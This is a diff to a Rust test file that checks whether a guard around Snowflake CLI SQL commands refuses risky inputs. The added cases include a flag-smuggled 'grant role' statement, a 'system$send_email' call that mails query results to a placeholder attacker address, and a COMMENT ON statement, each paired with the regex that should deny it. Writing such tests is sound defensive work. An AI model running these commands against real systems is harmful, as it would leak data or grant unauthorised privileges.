@@ -1432,6 +1432,29 @@ fn snow_findings_are_refused_for_the_reason_that_closes_them() {
                 &["sql", "-q", "select 1", "--enable-templating", "JINJA"],
                 "forbidden --enable-templating",
             ),
+            // Second review: repeated boolean letters before the value (click and getopt
+            // accept them), a SYSTEM$ function that mails query results out, and COMMENT ON.
+            (
+                &[
+                    "sql",
+                    "-q",
+                    "select 1",
+                    "-hhhhhhhhhhqgrant role r to user u",
+                ],
+                "denied /\\bgrant\\b/i",
+            ),
+            (
+                &[
+                    "sql",
+                    "-q",
+                    "select system$send_email('i', 'x@evil.example', 's', (select 1))",
+                ],
+                "denied /system\\$/i",
+            ),
+            (
+                &["sql", "-q", "comment if exists on table orders is 'x'"],
+                "denied /\\bcomment\\s+(if\\s+exists\\s+)?on\\b/i",
+            ),
         ],
     );
 }
